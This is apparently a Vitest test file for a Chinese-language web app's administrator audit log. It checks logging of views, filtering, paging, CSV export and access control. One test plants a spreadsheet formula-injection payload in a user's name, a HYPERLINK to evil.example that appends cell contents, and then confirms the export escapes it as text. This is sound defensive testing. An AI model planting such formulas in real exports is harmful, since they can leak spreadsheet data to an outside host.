// The audit log over HTTP, as an administrator reads it for an inspection: in words, filtered, paged, downloaded;
// looks at the same file within a minute as one entry; a formula typed into a record never runs in Excel.
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog, households, users } from '../../db/schema.ts';
import { sessionCookieFor } from '../setup/demo.ts';
import { type Site, startSite, Visitor } from '../setup/site.ts';

describe('the audit log', () => {
  let site: Site;
  let admin: Visitor;
  let coordinator: Visitor;
  let householdId: number;

  beforeAll(async () => {
    site = await startSite();
    admin = new Visitor(site);
    admin.cookie = await sessionCookieFor(site.db, 'admin');
    coordinator = new Visitor(site);
    coordinator.cookie = await sessionCookieFor(site.db, 'coordinator');
    householdId = site.db.select().from(households).where(eq(households.headName, '孙广森')).get()!.id;
  });
  afterAll(() => site?.stop());

  it('keeps repeated looks at one file within a minute as one entry', async () => {
    const looks = () => site.db.select().from(auditLog).where(eq(auditLog.entityId, String(householdId))).all().filter((e) => e.action === 'view' && e.entity === 'household').length;
    const before = looks();
    for (let i = 0; i < 3; i++) expect((await coordinator.get(`/households/${householdId}`)).status).toBe(200);
    expect(looks()).toBe(before + 1);
  });

  it('shows who did what to which record in words, filtered by person, kind and action', async () => {
    const page = await (await admin.get('/admin/audit?who=周毅刚&kind=household&action=view')).text();
    const html = /<ol class="plain audit">([\s\S]*?)<\/ol>/.exec(page)![1];
    expect(html).toContain('周毅刚');
    expect(html).toContain('查看');
    // The record by its name, linked to its page.
    expect(html).toContain(`<a href="/households/${householdId}">贫困户 孙广森</a>`);
    expect(html).not.toContain('王主任');
    // A filter that makes no sense is said beside its field, and the log is shown unfiltered.
    expect(await (await admin.get('/admin/audit?kind=banana')).text()).toContain('id="field-kind-error">请从列表中选择一项。<');
    expect(await (await admin.get('/admin/audit?from=2019-10-20&to=2019-10-01')).text()).toContain('id="field-to-error">结束日期不能早于开始日期。<');
  });

  it('pages fifty at a time and downloads every matching entry as CSV, formulas written as text', async () => {
    // Someone who gave their name as a spreadsheet formula.
    const looker = site.db.select().from(users).where(eq(users.email, 'member@yizhen.demo')).get()!;
    site.db.update(users).set({ name: '=HYPERLINK("http://evil.example/?"&A2,"点此")' }).where(eq(users.id, looker.id)).run();
    site.db.insert(auditLog).values(Array.from({ length: 60 }, (_, i) => ({ createdAt: Date.parse('2019-10-17T10:00:00+08:00') + i, actorId: looker.id, action: 'update', entity: 'staff', entityId: String(900 + i), after: JSON.stringify({ phone: '13904310001' }) }))).run();
    const first = await (await admin.get('/admin/audit?kind=staff&from=2019-10-17&to=2019-10-17')).text();
    expect(first).toContain('共 60 条 · 第 1 / 2 页');
    expect(first.match(/<li>\s*<p>/g)?.length).toBe(50);
    expect(first).toContain('href="?kind=staff&amp;from=2019-10-17&amp;to=2019-10-17&amp;page=2"');
    const second = await (await admin.get('/admin/audit?kind=staff&from=2019-10-17&to=2019-10-17&page=2')).text();
    expect(second.match(/<li>\s*<p>/g)?.length).toBe(10);
    const csv = await admin.get('/api/audit.csv?kind=staff&from=2019-10-17&to=2019-10-17');
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const text = await csv.text();
    expect(text.trim().split('\n')).toHaveLength(61);
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?""&A2,""点此"")"');
    expect(text).not.toMatch(/(^|,)"?=/m);
  });

  it('is for administrators only', async () => {
    expect((await coordinator.get('/admin/audit')).status).toBe(403);
    expect((await coordinator.get('/api/audit.csv')).status).toBe(403);
    expect((await new Visitor(site).get('/api/audit.csv')).status).toBe(401);
  });
});
